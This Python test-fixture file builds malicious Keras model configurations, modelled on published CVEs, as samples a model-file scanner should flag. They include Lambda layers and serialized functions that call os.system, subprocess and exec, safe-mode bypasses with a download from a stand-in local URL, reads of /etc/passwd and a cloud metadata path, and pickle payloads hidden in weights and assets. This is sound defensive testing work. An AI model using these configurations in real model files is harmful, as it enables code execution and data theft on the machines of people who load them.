"""Keras configurations that run, fetch, open or hide something: rebuilt from the descriptions of published flaws.

KV1 to KV3 are the study's names: foreign modules (CVE-2025-1550), functions of Keras (CVE-2025-8747, -9906) and
bytecode in HDF5 (CVE-2025-9905). Payloads are inert; that they run needs old versions of Keras, and is not tried here.
"""

import base64
from collections.abc import Callable
from typing import Any

from tests.build import keras_builder as k
from tests.build import npy_builder, torch_builder
from tests.build.keras_builder import call, function, functional, layer, node, sequential, tensor
from tests.build.sample import CANARY, Sample, evil, python, shell
from tests.build.zip_builder import Entry

Build = Callable[[str], Any]


def _lambda(command: str) -> str:
    return f"lambda x: {python(command)}"


def _foreign(c: str) -> Any:
    return functional(layer("run", {"name": "run"}, "subprocess", inbound_nodes=call(shell(c))))


def _named(module: str, name: str, *args: Any, **arguments: Any) -> Any:
    """A Lambda that calls a function by its name with constants."""
    config = {"name": name, "function": function(name, module), "arguments": arguments}
    return layer("Lambda", config, inbound_nodes=call(*args))


def _download(c: str) -> Any:
    del c
    fetch = _named("keras.utils", "get_file", "evil.keras", origin="http://127.0.0.1:9/evil.keras", cache_subdir=".")
    state = "keras.src.backend.common.global_state"
    off = _named(state, "set_global_attribute", "safe_mode_saving", value=False)
    return functional(fetch, off, _named("keras.models", "load_model", "evil.keras", safe_mode=False))


def _switch_off(c: str) -> Any:
    off = _named("keras.config", "enable_unsafe_deserialization")
    return functional(off, layer("Lambda", {"function": k.python_lambda(_lambda(c))}, inbound_nodes=call(tensor())))


def _old(c: str) -> Any:
    return sequential(layer("Lambda", k.old_lambda(_lambda(c)), None), module=None)


def _torch(c: str) -> str:
    return base64.b64encode(torch_builder.checkpoint(evil(c, 2), {})).decode()


#: name -> (row, expected, configuration); each becomes an archive and a JSON file
CONFIGS: dict[str, tuple[str, Build]] = {
    "kv1-foreign-module": ("KV1", _foreign),
    "kv1-foreign-function": ("KV1", lambda c: functional(layer("Dense", {"activation": function("system", "os")}))),
    "kv1-builtin": ("KV1", lambda c: functional(_named("builtins", "exec", python(c)))),
    "kv1-in-compile": ("KV1", lambda c: functional(k.DENSE, compile_config={"loss": function("system", "os")})),
    "kv1-in-build": ("KV1", lambda c: functional(k.DENSE, build_config={"x": node("Popen", {}, "subprocess")})),
    "kv1-typespec": ("KV1", lambda c: functional(
        layer("Dense", {"x": {"class_name": "__typespec__", "spec_name": "system", "module": "os", "config": [c],
                              "registered_name": None}}))),
    "kv2-download": ("KV2", _download),
    "kv2-no-download": ("KV2", _switch_off),
    "kv2-as-layer": ("KV2", lambda c: functional(
        layer("get_file", {}, "keras.utils", inbound_nodes=call("a", "http://127.0.0.1:9/a")))),
    "kv2-inner-module": ("KV2", lambda c: functional(_named("keras.src.saving.saving_lib", "load_model", "a.keras"))),
    "kv3-bytecode": ("KV3", _old),
    "lambda-layer": ("3.3", lambda c: sequential(layer("Lambda", {"function": k.python_lambda(_lambda(c))}))),
    "lambda-without-module": ("CVE-2026-12481", lambda c: sequential(
        layer("Lambda", {"function": k.python_lambda(_lambda(c))}, None))),
    "lambda-initializer": ("3.3", lambda c: sequential(
        layer("Dense", {"kernel_initializer": k.python_lambda(_lambda(c))}))),
    "lambda-activation": ("3.3", lambda c: sequential(
        layer("Activation", {"activation": k.python_lambda(_lambda(c))}))),
    "lambda-output-shape": ("3.3", lambda c: sequential(
        layer("Lambda", {"function": function("relu"), "output_shape": k.python_lambda(_lambda(c))}))),
    "lambda-value": ("3.3", lambda c: sequential(layer(
        "Dense", {"activation": {"class_name": "__lambda__", "config": {"value": [k.code(_lambda(c)), None, None]}}}))),
    "lambda-not-marshal": ("3.3", lambda c: sequential(
        layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": "AAAA" * 40}}}))),
    "old-lambda-os-system": ("KV3", lambda c: sequential(
        layer("Lambda", {"function": "system", "function_type": "function", "module": "os"}, None), module=None)),
    "tfsm-layer": ("CVE-2026-1462", lambda c: sequential(layer("TFSMLayer", {"filepath": "/tmp/evil_saved_model"}))),
    "torch-module": ("CVE-2025-49655", lambda c: sequential(layer("TorchModuleWrapper", {"module": _torch(c)}))),
    "vocabulary-file": ("CVE-2025-12058", lambda c: sequential(layer("StringLookup", {"vocabulary": "/etc/passwd"}))),
    "vocabulary-address": ("CVE-2025-12058", lambda c: sequential(
        layer("TextVectorization", {"vocabulary": "http://127.0.0.1:9/latest/meta-data"}))),
    "idf-weights-file": ("CVE-2025-12058", lambda c: sequential(layer("StringLookup", {"idf_weights": "../secret"}))),
    "registered-name": ("3.3", lambda c: sequential(
        layer("Dense", {}) | {"registered_name": "evil>Thing"})),
    "string-argument": ("3.3", lambda c: functional(layer("Dense", {}, inbound_nodes=call("/bin/sh")))),
    "tf-write-file": ("3.3", lambda c: sequential(layer(
        "TFOpLambda", {"function": "io.write_file"}, None,
        inbound_nodes=[["_CONSTANT_VALUE", -1, "/tmp/x", {"contents": "y"}]]), module=None)),
    "escaped-keys": ("3.3", lambda c: k.text(_foreign(c)).replace(b'"class_name"', b'"class\\u005fname"')),
}  # fmt: skip

#: what must not be clear, and needs no finding
HELD: dict[str, Build] = {
    "custom-layer": lambda c: sequential(layer("Mine", {}, "pkg.layers") | {"registered_name": "pkg>Mine"}),
    "jax-layer": lambda c: sequential(layer("JaxLayer", {"call_fn": function("f", "m"), "init_fn": None})),
    "unknown-root": lambda c: k.honest() | {"auto_map": {"AutoModel": "evil.Model"}},
}


def _json(build: Build, c: str) -> bytes:
    made = build(c)
    return made if isinstance(made, bytes) else k.text(made)


def _samples() -> list[Sample]:
    made = []
    for name, (row, build) in CONFIGS.items():
        made.append(
            Sample(
                f"keras-{name}",
                "keras",
                row,
                f"{name}.keras",
                lambda c=CANARY, build=build: k.archive(_json(build, c)),
                expects="flagged",
            )
        )
        made.append(
            Sample(
                f"keras-json-{name}",
                "keras",
                row,
                f"{name}.json",
                lambda c=CANARY, build=build: _json(build, c),
                expects="flagged",
            )
        )
    for name, build in HELD.items():
        made.append(Sample(f"keras-{name}", "keras", "3.3", f"{name}.json", lambda c=CANARY, b=build: _json(b, c)))
    made.append(
        Sample(
            "keras-npz-objects",
            "keras",
            "57c94f3",
            "npz.keras",
            lambda c=CANARY: k.archive(
                k.honest(),
                weights=Entry("model.weights.npz", npy_builder.npz(("a.npy", npy_builder.object_npy(evil(c))))),
            ),
            expects="flagged",
        )
    )
    made.append(
        Sample(
            "keras-pickle-in-assets",
            "keras",
            "3.3",
            "assets.keras",
            lambda c=CANARY: k.archive(k.honest(), Entry("assets/vocabulary.txt", evil(c))),
            expects="flagged",
        )
    )
    made.append(
        Sample(
            "keras-archive-in-assets",
            "keras",
            "3.3",
            "nested.keras",
            lambda c=CANARY: k.archive(k.honest(), Entry("assets/x.txt", k.archive(_foreign(c)))),
            expects="flagged",
        )
    )
    return made


SAMPLES = tuple(_samples())
